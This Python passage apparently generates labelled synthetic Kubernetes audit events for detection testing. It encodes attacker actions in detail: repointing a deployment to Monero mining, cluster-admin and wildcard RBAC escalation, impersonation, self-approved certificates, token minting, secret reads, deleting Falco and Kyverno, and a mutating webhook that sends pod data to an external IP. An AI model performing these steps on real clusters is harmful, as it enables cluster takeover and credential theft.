a("cryptominer", "stolen admin: strategic merge patch turns image-resizer args into nanopool mining args",
  patch(STOLEN6, "deployments", "image-resizer",
        {"spec": {"template": {"spec": {"containers": [{"name": "resizer", "args": ["--donate-level=0", "-o", "xmr-eu1.nanopool.org:14433", "--tls", "-u", MONERO]}]}}}},
        stored(orig, at(0, 0), gen=4), ns="shop", q="?fieldManager=kubectl-edit", t=at(3, 48)))

# ================================================================ RBAC
crb = binding("tmp-admin-0617", "ClusterRole", "cluster-admin", [subject("User", "svc-backup")])
a("cluster-admin-binding", "stolen admin: ClusterRoleBinding of cluster-admin to a new user",
  create(STOLEN, "clusterrolebindings", crb, t=at(3, 50)))
crb = binding("kube-controller", "ClusterRole", "cluster-admin",
              [subject("ServiceAccount", "kube-controller", "kube-system")])
a("cluster-admin-binding", "leaked CI token: RBAC-buster style binding of cluster-admin to a kube-system SA",
  create(CI_LEAK, "clusterrolebindings", crb, t=at(1, 44)))
rb = binding("payments-all", "ClusterRole", "cluster-admin", [subject("Group", "system:authenticated")], ns="payments")
a("cluster-admin-binding", "hijacked developer session: RoleBinding of cluster-admin to system:authenticated in payments",
  create(THEO_HIJACK, "rolebindings", rb, t=at(5, 14)))
crb = binding("sf-escalate", "ClusterRole", "cluster-admin", [subject("ServiceAccount", "storefront", "shop")])
esc_msg = ('clusterrolebindings.rbac.authorization.k8s.io "sf-escalate" is forbidden: user '
           '"system:serviceaccount:shop:storefront" (groups=["system:serviceaccounts" "system:serviceaccounts:shop" '
           '"system:authenticated"]) is attempting to grant RBAC permissions not currently held:\n{APIGroups:["*"], '
           'Resources:["*"], Verbs:["*"]}\n{NonResourceURLs:["*"], Verbs:["*"]}')
a("cluster-admin-binding", "compromised storefront SA: cluster-admin binding refused by RBAC escalation check (403)",
  create_denied_admission(SF, "clusterrolebindings", crb, 403, esc_msg, t=at(13, 45),
                          reason=rbac_reason("ClusterRoleBinding", "shop-rbac-manager", "C:rbac-manager",
                                             "ServiceAccount", "shop/storefront")))
crb = binding("ops-breakglass", "ClusterRole", "cluster-admin", [subject("User", "oidc:theo.marchand@lumenstack.io")])
a("cluster-admin-binding", "hijacked developer session: server-side apply grants the session user cluster-admin",
  patch(STOLEN, "clusterrolebindings", "ops-breakglass", crb, stored(crb, at(3, 52), gen=None),
        q="?fieldManager=kubectl&fieldValidation=Strict&force=false", code=201, t=at(3, 52)))
cab = binding("cluster-admin", "ClusterRole", "cluster-admin",
              [subject("Group", "system:masters"), subject("ServiceAccount", "default", "default")],
              labels={"kubernetes.io/bootstrapping": "rbac-defaults"})
a("cluster-admin-binding", "stolen admin: JSON patch adds default:default to the cluster-admin binding",
  patch(STOLEN6, "clusterrolebindings", "cluster-admin",
        [{"op": "add", "path": "/subjects/-", "value": {"kind": "ServiceAccount", "name": "default", "namespace": "default"}}],
        stored(cab, at(0, 0), gen=None), q="?fieldManager=kubectl-patch", t=at(3, 55)))

WILD = [rule(["*"], ["*"], ["*"])]
cr = role("ops-full-access", WILD + [rule(["*"], [], nonres=["*"])])
a("wildcard-role", "stolen admin: ClusterRole with * verbs on * resources in * groups",
  create(STOLEN, "clusterroles", cr, t=at(3, 57)))
r = role("shop-superuser", [rule(["*"], ["*"], ["", "apps", "batch"])], ns="shop")
a("wildcard-role", "hijacked developer session: Role with every verb on every resource in shop",
  create(THEO_HIJACK, "roles", r, t=at(5, 17)))
cr = role("secrets-operator", [rule(["*"], ["secrets", "configmaps"]), rule(["get", "list"], ["namespaces"])])
a("wildcard-role", "leaked CI token: ClusterRole with all verbs on secrets",
  create(CI_LEAK, "clusterroles", cr, t=at(1, 47)))
cr = role("monitoring-reader", [rule(["get", "list", "watch"], ["pods", "nodes", "services"]), rule(["*"], ["*"], ["*"])])
a("wildcard-role", "stolen admin: JSON patch appends a wildcard rule to an existing ClusterRole",
  patch(STOLEN6, "clusterroles", "monitoring-reader",
        [{"op": "add", "path": "/rules/-", "value": {"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}}],
        stored(cr, at(0, 0), gen=None), q="?fieldManager=kubectl-patch", t=at(4, 0)))

rb = binding("storefront-superuser", "Role", "shop-superuser", [subject("ServiceAccount", "storefront", "shop")], ns="shop")
a("wildcard-role-binding", "hijacked developer session: binds the wildcard Role shop-superuser to the storefront SA",
  create(THEO_HIJACK, "rolebindings", rb, t=at(5, 18)))
crb = binding("svc-backup-ops", "ClusterRole", "ops-full-access", [subject("User", "svc-backup")])
a("wildcard-role-binding", "stolen admin: ClusterRoleBinding to the wildcard ClusterRole ops-full-access",
  create(STOLEN, "clusterrolebindings", crb, t=at(3, 58)))
rb = binding("default-ops", "ClusterRole", "ops-full-access", [subject("ServiceAccount", "default", "default")], ns="kube-system")
a("wildcard-role-binding", "leaked CI token: RoleBinding in kube-system to the wildcard ClusterRole for default:default",
  create(CI_LEAK, "rolebindings", rb, t=at(1, 50)))

cr = role("debug-helper", [rule(["create", "get"], ["pods/exec", "pods/attach"]), rule(["get", "list"], ["pods"])])
a("exec-role", "stolen admin: ClusterRole granting pods/exec and pods/attach",
  create(STOLEN, "clusterroles", cr, t=at(4, 3)))
r = role("db-debug", [rule(["create", "get"], ["pods/exec", "pods/portforward"]), rule(["get"], ["pods"])], ns="payments")
a("exec-role", "hijacked developer session: Role granting pods/exec and pods/portforward in payments",
  create(THEO_HIJACK, "roles", r, t=at(5, 20)))
r = role("ci-deployer", [rule(["get", "list", "patch", "update"], ["deployments"], ["apps"]),
                          rule(["create", "get"], ["pods/exec"])], ns="ci")
a("exec-role", "leaked CI token: merge patch adds pods/exec to its own Role",
  patch(CI_LEAK, "roles", "ci-deployer", {"rules": r["rules"]}, stored(r, at(0, 0), gen=None), ns="ci",
        q="?fieldManager=kubectl-patch", t=at(1, 53)))
cr = role("node-metrics-proxy", [rule(["get", "create"], ["nodes/proxy"]), rule(["get", "list"], ["nodes"])])
a("exec-role", "stolen admin: ClusterRole granting nodes/proxy get+create (kubelet exec)",
  create(STOLEN6, "clusterroles", cr, t=at(4, 5)))

cr = role("rbac-delegate", [rule(["escalate", "bind"], ["clusterroles", "roles"], ["rbac.authorization.k8s.io"]),
                            rule(["get", "list"], ["clusterroles"], ["rbac.authorization.k8s.io"])])
a("escalate-bind-impersonate-role", "stolen admin: ClusterRole with escalate and bind on roles",
  create(STOLEN, "clusterroles", cr, t=at(4, 7)))
cr = role("support-impersonator", [rule(["impersonate"], ["users", "groups", "serviceaccounts"])])
a("escalate-bind-impersonate-role", "leaked CI token: ClusterRole granting impersonate on users/groups/SAs",
  create(CI_LEAK, "clusterroles", cr, t=at(1, 55)))
r = role("rb-writer", [rule(["create", "bind"], ["rolebindings", "roles"], ["rbac.authorization.k8s.io"])], ns="shop")
a("escalate-bind-impersonate-role", "hijacked developer session: Role with bind in shop",
  create(THEO_HIJACK, "roles", r, t=at(5, 22)))
cr = role("team-lead", [rule(["get", "list", "watch"], ["*"]),
                        rule(["impersonate"], ["users"], names=["kubernetes-admin"])])
a("escalate-bind-impersonate-role", "stolen admin: update of a ClusterRole adding impersonate of kubernetes-admin",
  update(STOLEN6, "clusterroles", "team-lead", stored(cr, at(0, 0), gen=None), t=at(4, 9)))

sysnode = role("system:node", [rule(["get", "list", "watch"], ["secrets", "configmaps"]),
                               rule(["create", "get", "list", "watch", "update", "patch", "delete"], ["pods"])],
               labels={"kubernetes.io/bootstrapping": "rbac-defaults"},
               annotations={"rbac.authorization.kubernetes.io/autoupdate": "true"})
a("system-rbac-tampering", "stolen admin: JSON patch adds list/watch secrets to ClusterRole system:node",
  patch(STOLEN, "clusterroles", "system:node",
        [{"op": "add", "path": "/rules/0", "value": {"apiGroups": [""], "resources": ["secrets", "configmaps"],
                                                    "verbs": ["get", "list", "watch"]}}],
        stored(sysnode, at(0, 0), gen=None), q="?fieldManager=kubectl-patch", t=at(4, 11)))
bu = binding("system:basic-user", "ClusterRole", "system:basic-user",
             [subject("Group", "system:authenticated"), subject("Group", "system:unauthenticated")],
             labels={"kubernetes.io/bootstrapping": "rbac-defaults"})
a("system-rbac-tampering", "leaked CI token: update of ClusterRoleBinding system:basic-user adding system:unauthenticated",
  update(CI_LEAK, "clusterrolebindings", "system:basic-user", stored(bu, at(0, 0), gen=None), t=at(1, 58)))
crb = binding("system:kube-dns-ext", "ClusterRole", "system:kube-dns", [subject("ServiceAccount", "default", "shop")])
a("system-rbac-tampering", "hijacked developer session: new ClusterRoleBinding with a system: name",
  create(THEO_HIJACK, "clusterrolebindings", crb, t=at(5, 25)))
a("system-rbac-tampering", "stolen admin: deletes ClusterRole system:aggregate-to-view",
  delete(STOLEN6, "clusterroles", "system:aggregate-to-view", kind="clusterroles", t=at(4, 14)))
a("system-rbac-tampering", "compromised storefront SA: update of ClusterRole system:coredns refused (403)",
  refused(SF, "update", "clusterroles", "system:coredns", t=at(13, 47)))
cm = binding("system:controller:namespace-controller", "ClusterRole", "cluster-admin",
             [subject("ServiceAccount", "namespace-controller", "kube-system")],
             labels={"kubernetes.io/bootstrapping": "rbac-defaults"})
a("system-rbac-tampering", "stolen admin: strategic merge patch repoints a system:controller binding's subjects",
  patch(STOLEN, "clusterrolebindings", "system:controller:namespace-controller",
        {"subjects": [{"kind": "ServiceAccount", "name": "namespace-controller", "namespace": "kube-system"},
                      {"kind": "ServiceAccount", "name": "default", "namespace": "default"}]},
        stored(cm, at(0, 0), gen=None), q="?fieldManager=kubectl-edit", t=at(4, 16)))

cr = role("secret-view-ext", [rule(["get", "list", "watch"], ["secrets"])],
          labels={"rbac.authorization.k8s.io/aggregate-to-view": "true"})
a("aggregated-clusterrole", "stolen admin: ClusterRole aggregated into view that grants secrets read",
  create(STOLEN, "clusterroles", cr, t=at(4, 18)))
cr = role("edit-exec-ext", [rule(["create"], ["pods/exec", "pods/attach"]), rule(["impersonate"], ["serviceaccounts"])],
          labels={"rbac.authorization.k8s.io/aggregate-to-edit": "true"})
a("aggregated-clusterrole", "hijacked developer session: ClusterRole aggregated into edit granting exec and SA impersonation",
  create(THEO_HIJACK, "clusterroles", cr, t=at(5, 28)))
cr = role("admin-plus", [rule(["*"], ["*"], ["*"])], labels={"rbac.authorization.k8s.io/aggregate-to-admin": "true",
                                                               "app.kubernetes.io/part-of": "lumenstack-ops"})
a("aggregated-clusterrole", "leaked CI token: server-side apply of a wildcard ClusterRole aggregated into admin",
  patch(CI_LEAK, "clusterroles", "admin-plus", cr, stored(cr, at(2, 0), gen=None),
        q="?fieldManager=kubectl&fieldValidation=Strict&force=false", code=201, t=at(2, 0)))

cr = role("system:kube-controler", WILD, labels={"kubernetes.io/bootstrapping": "rbac-defaults"})
a("disguised-system-name", "stolen admin: wildcard ClusterRole named system:kube-controler (typo of a system role)",
  create(STOLEN, "clusterroles", cr, t=at(4, 20)))
crb = binding("system-node-reader", "ClusterRole", "system:kube-controler",
              [subject("ServiceAccount", "default", "kube-public")])
a("disguised-system-name", "stolen admin: ClusterRoleBinding system-node-reader to the disguised role",
  create(STOLEN, "clusterrolebindings", crb, t=at(4, 21)))
ns_obj = {"kind": "Namespace", "apiVersion": "v1", "metadata": {"name": "kube-sytem"}, "spec": {}}
a("disguised-system-name", "leaked CI token: creates a namespace kube-sytem (typo of kube-system)",
  create(CI_LEAK, "namespaces", ns_obj, t=at(2, 2)))
dep = deployment("kube-apiserver-proxy", "kube-sytem", pod_spec([container("proxy", "docker.io/nginxproxy/nginx-proxy:1.6")]))
a("disguised-system-name", "leaked CI token: Deployment in the kube-sytem look-alike namespace",
  create(CI_LEAK, "deployments", dep, t=at(2, 3)))

# ================================================================ Credentials
a("impersonation", "stolen admin reads kube-system secrets impersonating a controller SA",
  event(STOLEN, "list", "/api/v1/namespaces/kube-system/secrets?limit=500", ref("secrets", "kube-system"),
        t=at(4, 24), level="Metadata",
        impersonated={"username": "system:serviceaccount:kube-system:clusterrole-aggregation-controller",
                      "groups": ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"]}))
a("impersonation", "leaked CI token (may impersonate) acts as group system:masters",
  event(CI_LEAK, "create", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings?fieldManager=kubectl-create&fieldValidation=Strict",
        ref("clusterrolebindings", None, "ci-root", "rbac.authorization.k8s.io"), t=at(2, 6), code=201,
        impersonated={"username": "admin", "groups": ["system:masters", "system:authenticated"]},
        req=binding("ci-root", "ClusterRole", "cluster-admin", [subject("ServiceAccount", "gitlab-deployer", "ci")]),
        resp=stored(binding("ci-root", "ClusterRole", "cluster-admin", [subject("ServiceAccount", "gitlab-deployer", "ci")]), at(2, 6), gen=None)))
a("impersonation", "hijacked developer session: --as=kubernetes-admin refused (403)",
  event(THEO_HIJACK, "list", "/api/v1/namespaces/payments/secrets?limit=500", ref("secrets", "payments"), t=at(5, 30),
        code=403, decision="forbid", level="Metadata",
        message='users "kubernetes-admin" is forbidden: User "oidc:theo.marchand@lumenstack.io" cannot impersonate resource "users" in API group "" at the cluster scope',
        details={"name": "kubernetes-admin", "kind": "users"}))
a("impersonation", "stolen admin impersonates a kubelet to read a secret through the node authorizer",
  event(STOLEN6, "get", "/api/v1/namespaces/payments/secrets/ledger-db-credentials", ref("secrets", "payments", "ledger-db-credentials"),
        t=at(4, 26), level="Metadata",
        impersonated={"username": "system:node:ingest-b3-16-node-e1a498", "groups": ["system:nodes", "system:authenticated"]}))
a("impersonation", "compromised storefront SA sends Impersonate-User: system:admin with curl, refused (403)",
  event(SF, "list", "/api/v1/namespaces/kube-system/secrets", ref("secrets", "kube-system"), t=at(13, 50), code=403,
        decision="forbid", level="Metadata",
        message='users "system:admin" is forbidden: User "system:serviceaccount:shop:storefront" cannot impersonate resource "users" in API group "" at the cluster scope',
        details={"name": "system:admin", "kind": "users"}))


def token_req(exp):
    return {"kind": "TokenRequest", "apiVersion": "authentication.k8s.io/v1", "metadata": {"creationTimestamp": None},
            "spec": {"audiences": None, "expirationSeconds": exp, "boundObjectRef": None}, "status": {"token": "", "expirationTimestamp": None}}


def token_resp(req, t, exp):
    r = copy.deepcopy(req)
    r["spec"]["audiences"] = ["https://kubernetes.default.svc.cluster.local"]
    r["status"] = {"token": "eyJhbGciOiJSUzI1NiIsImtpZCI6Ik" + alnum(40),
                   "expirationTimestamp": rfc(t + dt.timedelta(seconds=exp))}
    return r


import datetime as dt  # noqa: E402
for who, ns, sa_, exp, tm, note in [
    (STOLEN, "kube-system", "clusterrole-aggregation-controller", 31536000, at(4, 28),
     "stolen admin: kubectl create token for a kube-system controller SA, valid one year"),
    (SF_KUBECTL, "argocd", "argocd-application-controller", 3600, at(13, 52),
     "compromised storefront SA mints a token for the Argo CD controller SA"),
    (THEO_HIJACK, "kube-system", "default", 86400, at(5, 33),
     "hijacked developer session mints a token for kube-system:default"),
]:
    rq = token_req(exp)
    a("token-request", note,
      create(who, "serviceaccounts", rq, ns=ns, name=sa_, sub="token", resp=token_resp(rq, tm, exp), t=tm))
a("token-request", "stolen grafana SA: TokenRequest for cilium-operator refused (403)",
  refused(GRAFANA, "create", "serviceaccounts", "cilium-operator", "kube-system", sub="token", t=at(21, 55)))


def csr(name, cn, orgs, signer, usages):
    subj = f"/CN={cn}" + "".join(f"/O={o}" for o in orgs)
    pem = ("-----BEGIN CERTIFICATE REQUEST-----\nMIIC" + alnum(60) + "\n" + subj + "\n-----END CERTIFICATE REQUEST-----\n")
    return {"kind": "CertificateSigningRequest", "apiVersion": "certificates.k8s.io/v1", "metadata": {"name": name},
            "spec": {"request": base64.b64encode(pem.encode()).decode(), "signerName": signer,
                     "usages": usages, "expirationSeconds": 31536000}, "status": {}}


c1 = csr("ops-admin", "ops-admin", ["system:masters"], "kubernetes.io/kube-apiserver-client", ["client auth"])
a("csr", "stolen admin: CSR for a client cert in group system:masters",
  create(STOLEN, "certificatesigningrequests", c1, t=at(4, 30)))
ap = copy.deepcopy(stored(c1, at(4, 30), gen=None))
ap["status"] = {"conditions": [{"type": "Approved", "status": "True", "reason": "KubectlApprove",
                                "message": "This CSR was approved by kubectl certificate approve.",
                                "lastUpdateTime": rfc(at(4, 31, 2)), "lastTransitionTime": None}]}
a("csr", "stolen admin: kubectl certificate approve of its own CSR (update /approval)",
  update(STOLEN, "certificatesigningrequests", "ops-admin", ap, sub="approval", resp=ap, t=at(4, 31, 2)))
c2 = csr("sf-client", "system:kube-controller-manager", [], "kubernetes.io/kube-apiserver-client", ["client auth", "digital signature"])
a("csr", "compromised storefront SA: CSR impersonating kube-controller-manager refused (403)",
  refused(SF, "create", "certificatesigningrequests", None, t=at(13, 54)))
c3 = csr("node-csr-" + alnum(10), "system:node:web-b2-15-node-a8e5f1", ["system:nodes"],
         "kubernetes.io/kube-apiserver-client-kubelet", ["digital signature", "client auth"])
a("csr", "leaked CI token: CSR for another node's kubelet client identity",
  create(CI_LEAK, "certificatesigningrequests", c3, t=at(2, 9)))
ap3 = stored(c3, at(2, 9), gen=None)
ap3["status"] = {"conditions": [{"type": "Approved", "status": "True", "reason": "ManualApproval", "message": "approved",
                                 "lastUpdateTime": rfc(at(2, 10)), "lastTransitionTime": None}]}
a("csr", "leaked CI token (holds approve on the kubelet signer): approves that CSR via PATCH /approval",
  patch(CI_LEAK, "certificatesigningrequests", c3["metadata"]["name"],
        {"status": {"conditions": [{"type": "Approved", "status": "True", "reason": "ManualApproval", "message": "approved"}]}},
        ap3, sub="approval", t=at(2, 10)))

for who, verb, nm, tm, note, code in [
    (STOLEN, "get", "bootstrap-token-7fq2ab", at(4, 33), "stolen admin reads a bootstrap token secret in kube-system", 200),
    (THEO_HIJACK, "get", "sh.helm.release.v1.cilium.v4", at(5, 36), "hijacked developer session reads the cilium Helm release secret", 200),
    (SF, "get", "cilium-ca", at(13, 56), "compromised storefront SA: get kube-system secret cilium-ca refused (403)", 403),
    (GRAFANA, "list", None, at(21, 58), "stolen grafana SA (python) lists secrets in kube-system", 200),
    (CI_LEAK, "watch", None, at(2, 12), "leaked CI token watches kube-system secrets", 200),
]:
    if code == 403:
        e = refused(who, verb, "secrets", nm, "kube-system", t=tm)
    elif verb == "watch":
        e = watch(who, "secrets", "kube-system", t=tm, stage="ResponseStarted")
    else:
        e = get(who, "secrets", nm, "kube-system", t=tm, q="" if nm else "?limit=500")
    a("kube-system-secret-read", note, e)

a("list-secrets-cluster-wide", "stolen admin: kubectl get secrets -A",
  get(STOLEN, "secrets", q="?limit=500", t=at(4, 35)))
a("list-secrets-cluster-wide", "compromised storefront SA lists all secrets with curl, refused (403)",
  refused(SF, "list", "secrets", t=at(13, 58)))
a("list-secrets-cluster-wide", "stolen grafana SA watches secrets in all namespaces",
  watch(GRAFANA, "secrets", t=at(22, 1), stage="ResponseStarted"))
a("list-secrets-cluster-wide", "hijacked developer session: kubectl get secrets -A -o yaml (old kubectl)",
  get(THEO_HIJACK.at(ua=KUBECTL_OLD), "secrets", q="?limit=500", t=at(5, 38)))
a("list-secrets-cluster-wide", "leaked CI token: list of all secrets, metadata-only table view",
  get(CI_LEAK, "secrets", q="?includeObject=Object&limit=500", t=at(2, 14)))

# stolen SA / node credentials used from outside the cluster
SF_OUT = SF.at(ip=TOR1, ua=KUBECTL_LINUX)
a("credentials-from-outside", "storefront SA's bound token (pod-bound) used from a Tor exit with kubectl",
  get(SF_OUT, "pods", ns="shop", q="?limit=500", t=at(14, 30)))
ARGO_OUT = sa_user("argocd", "argocd-application-controller", VPS4, "curl/8.4.0", pod="argocd-application-controller-0",
                   node="ingest-b3-16-node-5d0c7e")
a("credentials-from-outside", "Argo CD controller SA token (exfiltrated) lists namespaces from a VPS with curl",
  get(ARGO_OUT, "namespaces", t=at(14, 40)))
NODE_OUT = Who("system:node:ingest-b3-16-node-e1a498", ["system:nodes", "system:authenticated"], VPS1, KUBECTL_LINUX)
a("credentials-from-outside", "kubelet client cert of a node used from a VPS with kubectl: get nodes",
  get(NODE_OUT, "nodes", q="?limit=500", t=at(2, 16)))
NODE_OUT2 = Who("system:node:web-b2-15-node-71c2d4", ["system:nodes", "system:authenticated"], VPS2, kubelet_ua())
a("credentials-from-outside", "kubelet creds from a VPS (kubelet UA spoofed): secret of an unrelated pod refused by node authorizer",
  refused(NODE_OUT2, "get", "secrets", "ledger-db-credentials", "payments", t=at(2, 44),
          node_reason="no relationship found between node 'web-b2-15-node-71c2d4' and this object"))
sil = pod("winupd", "default", pod_spec([container("c", "mcr.microsoft.com/powershell:lts-7.4-nanoserver-1809")]))
a("credentials-from-outside", "kubelet creds from a VPS try to create a pod (Siloscape style): NodeRestriction refuses (403)",
  create_denied_admission(NODE_OUT, "pods", sil, 403,
                          'pods "winupd" is forbidden: pod does not have "kubernetes.io/config.mirror" annotation, node "ingest-b3-16-node-e1a498" can only create mirror pods',
                          t=at(2, 18)))
CILIUM_OUT = sa_user("kube-system", "cilium", "51.210.44.97", "cilium-agent/1.16.5 (linux/amd64)",
                     pod="cilium-8xq4n", node="web-b2-15-node-71c2d4")
a("credentials-from-outside", "cilium agent SA token used from an OVH VPS that is not a node, listing secrets",
  get(CILIUM_OUT, "secrets", q="?limit=500", t=at(15, 2)))
a("credentials-from-outside", "kubelet creds from a VPS request a token for the cilium SA",
  create(NODE_OUT2, "serviceaccounts", token_req(3600), ns="kube-system", name="cilium", sub="token",
         resp=token_resp(token_req(3600), at(2, 46), 3600), t=at(2, 46)))

ssrr_req, ssrr_resp = sar_obj("SelfSubjectRulesReview", {"namespace": "shop"})
ssrr_resp["status"] = {"resourceRules": [{"verbs": ["get", "list"], "apiGroups": [""], "resources": ["pods", "secrets"]},
                                         {"verbs": ["create"], "apiGroups": ["batch"], "resources": ["jobs", "cronjobs"]}],
                       "nonResourceRules": [{"verbs": ["get"], "nonResourceURLs": ["/api", "/api/*", "/apis", "/version"]}],
                       "incomplete": False}
a("sa-recon", "compromised storefront SA: kubectl auth can-i --list (SelfSubjectRulesReview) from the pod",
  create(SF_KUBECTL, "selfsubjectrulesreviews", ssrr_req, resp=ssrr_resp, t=at(12, 58)))
for verb_, res_, ns_, allowed, tm in [("create", "pods", "kube-system", False, at(12, 59, 10)),
                                      ("get", "secrets", "kube-system", False, at(12, 59, 11)),
                                      ("create", "pods/exec", "payments", False, at(12, 59, 12))]:
    rr, rp = sar_obj("SelfSubjectAccessReview",
                     {"resourceAttributes": {"namespace": ns_, "verb": verb_, "resource": res_.split("/")[0],
                                             **({"subresource": res_.split("/")[1]} if "/" in res_ else {})}},
                     allowed=allowed)
    a("sa-recon", f"compromised storefront SA (curl): SelfSubjectAccessReview can I {verb_} {res_} in {ns_}",
      create(SF, "selfsubjectaccessreviews", rr, resp=rp, t=tm))
rr, rp = sar_obj("SelfSubjectAccessReview", {"resourceAttributes": {"verb": "list", "resource": "secrets"}}, allowed=True,
                 reason='RBAC: allowed by ClusterRoleBinding "grafana-reader" of ClusterRole "grafana-reader" to ServiceAccount "grafana/monitoring"')
a("sa-recon", "stolen grafana SA: SelfSubjectAccessReview 'can I list secrets' from python",
  create(GRAFANA, "selfsubjectaccessreviews", rr, resp=rp, t=at(21, 30)))
ssrr2, ssrr2r = sar_obj("SelfSubjectRulesReview", {"namespace": "default"})
ssrr2r["status"] = {"resourceRules": [], "nonResourceRules": [], "incomplete": False}
a("sa-recon", "Argo CD SA token from a VPS: SelfSubjectRulesReview",
  create(ARGO_OUT, "selfsubjectrulesreviews", ssrr2, resp=ssrr2r, t=at(14, 39)))

# ================================================================ Defence evasion
evl = {"kind": "EventList", "apiVersion": "v1", "metadata": {"resourceVersion": str(R.randint(4000000, 9900000))}, "items": []}
a("delete-events", "stolen admin: kubectl delete events --all in shop (deletecollection)",
  event(STOLEN, "deletecollection", "/api/v1/namespaces/shop/events", ref("events", "shop"), t=at(4, 50),
        req=delete_options(), resp=evl))
a("delete-events", "hijacked developer session: deletecollection of events.k8s.io events in kube-system",
  event(THEO_HIJACK, "deletecollection", "/apis/events.k8s.io/v1/namespaces/kube-system/events",
        ref("events", "kube-system", None, "events.k8s.io"), t=at(5, 50), req=delete_options(),
        resp={"kind": "EventList", "apiVersion": "events.k8s.io/v1", "metadata": {}, "items": []}))
a("delete-events", "compromised storefront SA deletes the event recording its pod creation",
  delete(SF, "events", "sf-img-x7k2p.17e9c4a1b2d3f4e5", ns="shop", kind="events", t=at(14, 2)))
a("delete-events", "leaked CI token: delete events in kube-system refused (403)",
  refused(CI_LEAK, "deletecollection", "events", None, "kube-system", t=at(2, 20)))

a("disable-security-tooling", "stolen admin deletes the Falco DaemonSet",
  delete(STOLEN, "daemonsets", "falco", ns="falco", kind="daemonsets", opts=delete_options("Background"), t=at(2, 5)))
fds = daemonset("falco", "falco", pod_spec([container("falco", "docker.io/falcosecurity/falco:0.40.0", sc=PRIV)],
                                           node_selector={"lumenstack.io/never": "true"}, tolerations=TOLERATE_ALL),
                labels={"app.kubernetes.io/name": "falco"})
a("disable-security-tooling", "hijacked developer session: strategic patch gives Falco a nodeSelector that matches no node",
  patch(THEO_HIJACK, "daemonsets", "falco", {"spec": {"template": {"spec": {"nodeSelector": {"lumenstack.io/never": "true"}}}}},
        stored(fds, at(0, 0), gen=12), ns="falco", q="?fieldManager=kubectl-patch", t=at(3, 59)))
sc = {"kind": "Scale", "apiVersion": "autoscaling/v1", "metadata": {"name": "falcosidekick", "namespace": "falco"},
      "spec": {"replicas": 0}, "status": {"replicas": 2, "selector": "app.kubernetes.io/name=falcosidekick"}}
a("disable-security-tooling", "stolen admin scales falcosidekick to 0 (patch /scale)",
  patch(STOLEN6, "deployments", "falcosidekick", {"spec": {"replicas": 0}}, sc, ns="falco", sub="scale",
        q="?fieldManager=kubectl-scale", t=at(2, 7)))
a("disable-security-tooling", "leaked CI token deletes the falco namespace",
  delete(CI_LEAK, "namespaces", "falco", kind="namespaces",
         resp={"kind": "Namespace", "apiVersion": "v1", "metadata": {"name": "falco", "deletionTimestamp": rfc(at(2, 22))},
               "spec": {"finalizers": ["kubernetes"]}, "status": {"phase": "Terminating"}}, t=at(2, 22)))
a("disable-security-tooling", "compromised storefront SA: delete of a Falco pod refused (403)",
  refused(SF, "delete", "pods", "falco-6xq2m", "falco", t=at(14, 4)))
a("disable-security-tooling", "stolen admin edits the falco rules ConfigMap (metadata only)",
  event(STOLEN, "update", "/api/v1/namespaces/falco/configmaps/falco-rules?fieldManager=kubectl-edit",
        ref("configmaps", "falco", "falco-rules"), t=at(2, 3)))
a("disable-security-tooling", "hijacked developer session deletes Kyverno's validating webhook configuration",
  delete(THEO_HIJACK, "validatingwebhookconfigurations", "kyverno-resource-validating-webhook-cfg",
         kind="validatingwebhookconfigurations", t=at(5, 52)))

mwc = {"kind": "MutatingWebhookConfiguration", "apiVersion": "admissionregistration.k8s.io/v1",
       "metadata": {"name": "pod-sidecar-injector"},
       "webhooks": [{"name": "inject.sidecar.io", "clientConfig": {"url": "https://45.9.148.221:8443/mutate"},
                     "rules": [{"operations": ["CREATE"], "apiGroups": [""], "apiVersions": ["v1"], "resources": ["pods"],
                                "scope": "*"}],
                     "failurePolicy": "Ignore", "sideEffects": "None", "admissionReviewVersions": ["v1"],
                     "timeoutSeconds": 5}]}
a("admission-webhook", "stolen admin: mutating webhook on every pod CREATE sent to an external IP",
  create(STOLEN, "mutatingwebhookconfigurations", mwc, t=at(4, 52)))
vwc = {"kind": "ValidatingWebhookConfiguration", "apiVersion": "admissionregistration.k8s.io/v1",
       "metadata": {"name": "ns-guard"},
       "webhooks": [{"name": "guard.ns-guard.svc", "clientConfig": {"service": {"namespace": "shop", "name": "cart-api", "port": 443}},
                     "rules": [{"operations": ["*"], "apiGroups": ["*"], "apiVersions": ["*"], "resources": ["*/*"], "scope": "*"}],
                     "failurePolicy": "Fail", "sideEffects": "None", "admissionReviewVersions": ["v1"]}]}
a("admission-webhook", "hijacked developer session: validating webhook on everything, failurePolicy Fail",
  create(THEO_HIJACK, "validatingwebhookconfigurations", vwc, t=at(5, 55)))
mw2 = copy.deepcopy(mwc)
mw2["metadata"]["name"] = "istio-sidecar-injector"
mw2["webhooks"][0]["clientConfig"] = {"url": "https://sidecar.lumenstack-mesh.net/inject"}
a("admission-webhook", "leaked CI token: JSON patch repoints an existing mutating webhook to an outside URL",
  patch(CI_LEAK, "mutatingwebhookconfigurations", "istio-sidecar-injector",
        [{"op": "replace", "path": "/webhooks/0/clientConfig", "value": {"url": "https://sidecar.lumenstack-mesh.net/inject"}}],
        stored(mw2, at(0, 0)), q="?fieldManager=kubectl-patch", t=at(2, 25)))
mw3 = copy.deepcopy(mwc)
mw3["metadata"]["name"] = "secret-mirror"
mw3["webhooks"][0]["rules"][0]["resources"] = ["secrets"]
mw3["webhooks"][0]["clientConfig"] = {"service": {"namespace": "default", "name": "mirror", "path": "/m"}}
a("admission-webhook", "stolen admin: server-side apply of a mutating webhook that sees every secret",
  patch(STOLEN6, "mutatingwebhookconfigurations", "secret-mirror", mw3, stored(mw3, at(4, 54)),
        q="?fieldManager=kubectl&fieldValidation=Strict&force=false", code=201, t=at(4, 54)))

for who, verb, nm, tm, note in [
    (STOLEN, "update", "coredns", at(4, 57), "stolen admin rewrites the coredns Corefile (kubectl edit)"),
    (THEO_HIJACK, "patch", "kube-proxy", at(5, 58), "hijacked developer session patches the kube-proxy ConfigMap"),
    (STOLEN6, "delete", "cilium-config", at(4, 58), "stolen admin deletes the cilium-config ConfigMap"),
    (CI_LEAK, "create", "coredns-custom", at(2, 27), "leaked CI token creates a coredns-custom override ConfigMap in kube-system"),
    (SF, "update", "extension-apiserver-authentication", at(14, 6), "compromised storefront SA: update of extension-apiserver-authentication refused (403)"),
]:
    q = {"update": "?fieldManager=kubectl-edit", "patch": "?fieldManager=kubectl-patch", "delete": "",
         "create": "?fieldManager=kubectl-create&fieldValidation=Strict"}[verb]
    if who is SF:
